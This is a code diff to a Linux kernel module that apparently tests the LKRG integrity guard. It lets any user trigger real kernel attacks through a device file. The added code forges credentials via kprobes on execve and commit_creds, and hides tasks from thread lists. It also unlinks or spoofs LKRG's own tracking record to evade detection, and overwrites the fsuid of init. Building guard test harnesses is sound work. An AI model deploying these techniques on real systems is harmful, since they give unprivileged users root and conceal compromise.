@@ -6,14 +6,17 @@
  * the kernel has for a change: he changes the object.  So does this module.
  * An ordinary user writes the name of one attack to /dev/lkrg_attack, and the
  * object is changed, in the running kernel, as by that attacker.  Reading the
- * device lists the attacks.
+ * device lists the attacks: on credentials, in place, by their pointers and by
+ * the functions of the kernel; on namespaces, root, seccomp, tracer, memory and
+ * flags of a task; on the lists it is in, and its record in that of the guard;
+ * on a kernel thread of this module and on process 1; on the kernel image.
  *
  * What differs from a real attack is only what lets the machine survive with
  * the guard switched off: whatever a changed credential will give back when
  * its task exits (references, a count of processes) is taken here first, and
  * what it can no longer give back is given back here.  No lock is taken that
- * an attacker would not take: the credential belongs to the caller, or to its
- * parent, who sleeps.
+ * an attacker would not take: what is changed belongs to the caller, or to one
+ * who sleeps.
  */
 
 #define pr_fmt(fmt) KBUILD_MODNAME ": " fmt
@@ -23,6 +26,7 @@
 #include <linux/capability.h>
 #include <linux/cgroup.h>
 #include <linux/compiler.h>
+#include <linux/container_of.h>
 #include <linux/cred.h>
 #include <linux/err.h>
 #include <linux/fs.h>
@@ -35,6 +39,8 @@
 #include <linux/key.h>
 #include <linux/kmemleak.h>
 #include <linux/kprobes.h>
+#include <linux/kthread.h>
+#include <linux/list.h>
 #include <linux/lsm_hooks.h>
 #include <linux/miscdevice.h>
 #include <linux/mm.h>
@@ -61,6 +67,7 @@
 #include <linux/string.h>
 #include <linux/thread_info.h>
 #include <linux/time_namespace.h>
+#include <linux/uaccess.h>
 #include <linux/user_namespace.h>
 #include <linux/utsname.h>
 #include <linux/vmalloc.h>
@@ -77,6 +84,9 @@ MODULE_PARM_DESC(changed, "What was changed in the kernel image (read only)");
 
 /* Who owns the file that is read with it, see attack_victim.c */
 #define ATTACK_GID	2001
+
+/* Whoever root is not */
+#define ATTACK_UID	1000
 
 /**
  * struct attack - One row of the table of attacks
@@ -340,6 +350,26 @@ static int forge_cred(struct task_struct *task, size_t field)
 	return 0;
 }
 
+/* A worker of io_uring: a thread of the task's, but it runs no program */
+static int redirect_worker(struct task_struct *task, size_t field)
+{
+	struct task_struct *thread, *worker = NULL;
+	int err;
+
+	rcu_read_lock();
+	for_each_thread(task, thread)
+		if (thread->flags & PF_IO_WORKER)
+			worker = thread;
+	if (worker)
+		get_task_struct(worker);
+	rcu_read_unlock();
+	if (!worker)
+		return -ESRCH;
+	err = redirect_both(worker, field);
+	put_task_struct(worker);
+	return err;
+}
+
 /* === Credentials, by the kernel's functions from a hijacked flow ======== */
 
 /* What is refused stays with who asked. */
@@ -382,43 +412,94 @@ static int commit_own(struct task_struct *task, size_t field)
 }
 
 /*
- * What execve() has prepared, just before it decides what the program may become.
- * Another task could do that, while this one sleeps in execve().
+ * What a system call has prepared, just before it takes effect: by another task,
+ * while the call sleeps, or in the time of a few instructions.
  */
 #ifdef CONFIG_KPROBES
-static struct task_struct *exec_victim;
+struct ambush {
+	struct kprobe probe;
+	struct task_struct *victim;
+	void (*change)(struct pt_regs *regs);
+};
 
-static int at_begin_new_exec(struct kprobe *probe, struct pt_regs *regs)
+static int spring(struct kprobe *probe, struct pt_regs *regs)
 {
-	struct linux_binprm *const bprm =
-		(void *)regs_get_kernel_argument(regs, 0);
+	struct ambush *const ambush = container_of(probe, struct ambush, probe);
 
-	if (current == exec_victim) {
-		exec_victim = NULL;
-		bprm->cred->euid = GLOBAL_ROOT_UID;
+	if (current == ambush->victim) {
+		ambush->victim = NULL;
+		ambush->change(regs);
 	}
 	return 0;
 }
 
-static struct kprobe exec_probe = {
-	.symbol_name = "begin_new_exec",
-	.pre_handler = at_begin_new_exec,
+static void change_bprm(struct pt_regs *regs)
+{
+	struct linux_binprm *const bprm =
+		(void *)regs_get_kernel_argument(regs, 0);
+
+	bprm->cred->euid = GLOBAL_ROOT_UID;
+}
+
+static void change_new_cred(struct pt_regs *regs)
+{
+	struct cred *const new = (void *)regs_get_kernel_argument(regs, 0);
+
+	new->cap_permitted = CAP_FULL_SET;
+	new->cap_effective = CAP_FULL_SET;
+}
+
+static struct ambush exec_ambush = {
+	.probe = { .symbol_name = "begin_new_exec", .pre_handler = spring },
+	.change = change_bprm,
 };
-#endif
+
+static struct ambush commit_ambush = {
+	.probe = { .symbol_name = "commit_creds", .pre_handler = spring },
+	.change = change_new_cred,
+};
+
+static int lie_in_wait(struct ambush *ambush, struct task_struct *task)
+{
+	int err = ambush->probe.addr ? 0 : register_kprobe(&ambush->probe);
+
+	if (!err)
+		ambush->victim = task;
+	return err;
+}
 
 static int change_exec(struct task_struct *task, size_t field)
 {
-#ifdef CONFIG_KPROBES
-	int err = exec_probe.addr ? 0 : register_kprobe(&exec_probe);
-
-	if (err)
-		return err;
-	exec_victim = task;
-	return 0;
-#else
-	return -EOPNOTSUPP;
-#endif
+	return lie_in_wait(&exec_ambush, task);
 }
+
+static int change_commit(struct task_struct *task, size_t field)
+{
+	return lie_in_wait(&commit_ambush, task);
+}
+
+static void end_ambushes(void)
+{
+	if (exec_ambush.probe.addr)
+		unregister_kprobe(&exec_ambush.probe);
+	if (commit_ambush.probe.addr)
+		unregister_kprobe(&commit_ambush.probe);
+}
+#else
+static int change_exec(struct task_struct *task, size_t field)
+{
+	return -EOPNOTSUPP;
+}
+
+static int change_commit(struct task_struct *task, size_t field)
+{
+	return -EOPNOTSUPP;
+}
+
+static void end_ambushes(void)
+{
+}
+#endif
 
 /* Nothing will revert, so nothing else puts the credential of before */
 static int override_with(const struct cred *cred)
@@ -662,6 +743,16 @@ static int hide_from_tasks(struct task_struct *task, size_t field)
 	return 0;
 }
 
+static int hide_from_threads(struct task_struct *task, size_t field)
+{
+	struct list_head *const entry = &task->thread_node;
+
+	entry->prev->next = entry->next;
+	entry->next->prev = entry->prev;
+	INIT_LIST_HEAD(entry);
+	return 0;
+}
+
 static int hide_from_pid(struct task_struct *task, size_t field)
 {
 	static struct hlist_node *nowhere;
@@ -679,6 +770,140 @@ static int hide_from_idr(struct task_struct *task, size_t field)
 {
 	idr_replace(&init_pid_ns.idr, NULL, task_pid_nr(task));
 	return 0;
+}
+
+/* Where the record of a task begins among those of all modules */
+static ulong lkrg_blob_sizes_at;
+module_param_named(lkrg_blob_sizes, lkrg_blob_sizes_at, ulong, 0400);
+MODULE_PARM_DESC(lkrg_blob_sizes, "Address of that object");
+
+/* What is in a record only lkrg knows, but it is not longer than that. */
+#define RECORD_WORDS	(320 / sizeof(ulong))
+
+static ulong *record_of(struct task_struct *task)
+{
+	const struct lsm_blob_sizes *const sizes = (void *)lkrg_blob_sizes_at;
+
+	return sizes ? task->security + sizes->lbs_task : NULL;
+}
+
+/* Two words that lead to others, which lead back: nothing else does */
+static bool is_list_node(const struct list_head *node)
+{
+	struct list_head next, prev;
+
+	return node->next != node &&
+	       !copy_from_kernel_nofault(&next, node->next, sizeof(next)) &&
+	       !copy_from_kernel_nofault(&prev, node->prev, sizeof(prev)) &&
+	       next.prev == node && prev.next == node;
+}
+
+static int hide_record(struct task_struct *task, size_t field)
+{
+	ulong *const record = record_of(task);
+	struct list_head *node;
+	size_t i;
+
+	if (!record)
+		return -ENOENT;
+	for (i = 0; i + 1 < RECORD_WORDS; i++) {
+		node = (struct list_head *)&record[i];
+		if (!is_list_node(node))
+			continue;
+		node->prev->next = node->next;
+		node->next->prev = node->prev;
+		INIT_LIST_HEAD(node);
+		return 0;
+	}
+	return -ESRCH;
+}
+
+/* As if the record were that of init_task, which is in no list */
+static int give_record_away(struct task_struct *task, size_t field)
+{
+	ulong *const record = record_of(task);
+	size_t i;
+
+	if (!record)
+		return -ENOENT;
+	for (i = 0; i < RECORD_WORDS; i++) {
+		if (record[i] != (ulong)task)
+			continue;
+		WRITE_ONCE(record[i], (ulong)&init_task);
+		return 0;
+	}
+	return -ESRCH;
+}
+
+/* === A kernel thread ==================================================== */
+
+static struct task_struct *sleeper;
+
+static int sleep_on(void *unused)
+{
+	set_current_state(TASK_IDLE);
+	while (!kthread_should_stop()) {
+		schedule();
+		set_current_state(TASK_IDLE);
+	}
+	__set_current_state(TASK_RUNNING);
+	return 0;
+}
+
+static int start_sleeper(struct task_struct *task, size_t field)
+{
+	struct task_struct *new;
+
+	if (sleeper)
+		return -EBUSY;
+	new = kthread_run(sleep_on, NULL, "lkrg_sleeper");
+	if (IS_ERR(new))
+		return PTR_ERR(new);
+	sleeper = new;
+	return 0;
+}
+
+static int stop_sleeper(struct task_struct *task, size_t field)
+{
+	if (!sleeper)
+		return -ESRCH;
+	kthread_stop(sleeper);
+	sleeper = NULL;
+	return 0;
+}
+
+static int overwrite_sleeper(struct task_struct *task, size_t field)
+{
+	if (!sleeper)
+		return -ESRCH;
+	WRITE_ONCE(cred_of(sleeper)->fsuid.val, ATTACK_UID);
+	return 0;
+}
+
+/* === The first process ================================================== */
+
+static int set_fsuid_of_init(uid_t uid)
+{
+	struct task_struct *init;
+
+	rcu_read_lock();
+	init = get_pid_task(find_pid_ns(1, &init_pid_ns), PIDTYPE_PID);
+	rcu_read_unlock();
+	if (!init)
+		return -ESRCH;
+	WRITE_ONCE(cred_of(init)->fsuid.val, uid);
+	put_task_struct(init);
+	return 0;
+}
+
+static int overwrite_first(struct task_struct *task, size_t field)
+{
+	return set_fsuid_of_init(ATTACK_UID);
+}
+
+static int restore_first(struct task_struct *task, size_t field)
+{
+	return set_fsuid_of_init(0);
 }
 
 /* === The kernel image =================================================== */
@@ -921,6 +1146,8 @@ static const struct attack attacks[] = {
 	ATTACK("cred-only", redirect_cred, "only ->cred to init_cred"),
 	ATTACK("cred-real", redirect_real_cred, "only ->real_cred to init_cred"),
 	ATTACK("cred-forged", forge_cred, "both pointers to a forged credential"),
+	ATTACK("worker-init", redirect_worker,
+	       "both pointers of an io_uring worker to init_cred"),
 	ATTACK("commit-init", commit_init, "commit_creds(&init_cred)"),
 	ATTACK("commit-kernel", commit_kernel,
 	       "commit_creds(prepare_kernel_cred(&init_task))"),
@@ -928,6 +1155,8 @@ static const struct attack attacks[] = {
 	       "commit_creds() of an own copy, uid 0, all capabilities"),
 	ATTACK("exec-euid", change_exec,
 	       "what the next execve() has prepared gets euid 0"),
+	ATTACK("commit-caps", change_commit,
+	       "what the next system call is about to commit gets all capabilities"),
 	ATTACK("override-init", override_init,
 	       "override_creds(&init_cred), not reverted"),
 	ATTACK("override-kernel", override_kernel,
@@ -959,8 +1188,16 @@ static const struct attack attacks[] = {
 	ATTACK("dumpable", make_dumpable, "own memory may be looked into"),
 	ATTACK("flags", set_private_flag, "own flags get a private mark"),
 	ATTACK("hide-tasks", hide_from_tasks, "off the list of tasks"),
+	ATTACK("hide-threads", hide_from_threads, "off the list of threads"),
 	ATTACK("hide-pid", hide_from_pid, "its pid leads nowhere"),
 	ATTACK("hide-idr", hide_from_idr, "its pid is not in the table"),
+	ATTACK("hide-record", hide_record, "its record off the list of lkrg"),
+	ATTACK("hide-owner", give_record_away, "its record seems to be that of init_task"),
+	ATTACK("init-fsuid", overwrite_first, "the fsuid of process 1 becomes 1000"),
+	ATTACK("init-restore", restore_first, "and 0 again"),
+	ATTACK("kthread-start", start_sleeper, "a kernel thread is there, and sleeps"),
+	ATTACK("kthread-fsuid", overwrite_sleeper, "its fsuid becomes 1000"),
+	ATTACK("kthread-stop", stop_sleeper, "it ends"),
 	{
 		.name = "parent-fsuid",
 		.what = "the fsuid of the parent becomes 0",
@@ -1095,10 +1332,8 @@ static int __init attack_init(void)
 static void __exit attack_exit(void)
 {
 	misc_deregister(&attack_device);
-#ifdef CONFIG_KPROBES
-	if (exec_probe.addr)
-		unregister_kprobe(&exec_probe);
-#endif
+	end_ambushes();
+	stop_sleeper(NULL, 0);
 	restore(&text_change);
 	restore(&rodata_change);
 	restore(&module_text_change);
